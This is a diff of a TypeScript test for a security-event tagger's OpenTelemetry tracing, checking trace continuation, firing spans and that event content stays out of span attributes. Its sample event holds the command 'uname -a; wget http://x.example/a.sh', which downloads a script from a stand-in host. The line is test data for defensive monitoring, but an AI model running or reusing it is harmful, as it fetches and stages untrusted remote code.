@@ -1,7 +1,8 @@
 /**
- * The tagger processor's trace context handling, with a real OpenTelemetry tracer provider and
- * W3C propagator: a span per event evaluation continuing the producer's trace, a child span per
- * firing, outputs carrying the firing's context — and no event content in any attribute.
+ * The tagger's trace context handling on the runtime's core, with a real OpenTelemetry tracer
+ * provider and W3C propagator: the runtime's span per event continuing the producer's trace, a
+ * child span per firing, outputs carrying the firing's context — and no event content in any
+ * attribute.
  */
 import { resolve } from 'node:path';
 import { propagation, trace } from '@opentelemetry/api';
@@ -12,7 +13,7 @@ import {
   SimpleSpanProcessor,
 } from '@opentelemetry/sdk-trace-base';
 import { topicNames } from '@riskline/contracts';
-import { handlerOutcome } from '@riskline/stream-core';
+import { applyRecords, freshProgress } from '@riskline/stream-core';
 import { taggerForRules } from './testing/bundled-tagger';
 
 const TRACE_ID = '0af7651916cd43dd8448eb211c80319c';
@@ -40,20 +41,20 @@ describe('tagger processor tracing', () => {
       src_ip: '203.0.113.9',
       command: 'uname -a; wget http://x.example/a.sh',
     };
-    const { outputs = [] } = handlerOutcome(
-      processor.handle({}, event, {
+    const { outputs } = applyRecords(processor, freshProgress({}, 5), [
+      {
         topic: 'soc.events',
         partition: 1,
         offset: '5',
         key: null,
+        value: Buffer.from(JSON.stringify(event)),
+        timestamp: String(Date.parse('2026-01-01T00:00:00Z')),
         headers: { traceparent: PARENT },
-        eventTimeMs: 0,
-        watermarkMs: 0,
-      }),
-    );
+      },
+    ]);
 
     const spans = exporter.getFinishedSpans();
-    const evaluate = spans.find((s) => s.name === 'tagger.evaluate')!;
+    const evaluate = spans.find((s) => s.name === 'tagger process')!;
     const firings = spans.filter((s) => s.name === 'tagger.firing');
     expect(evaluate.spanContext().traceId).toBe(TRACE_ID);
     expect(evaluate.parentSpanContext?.spanId).toBe('b7ad6b7169203331');
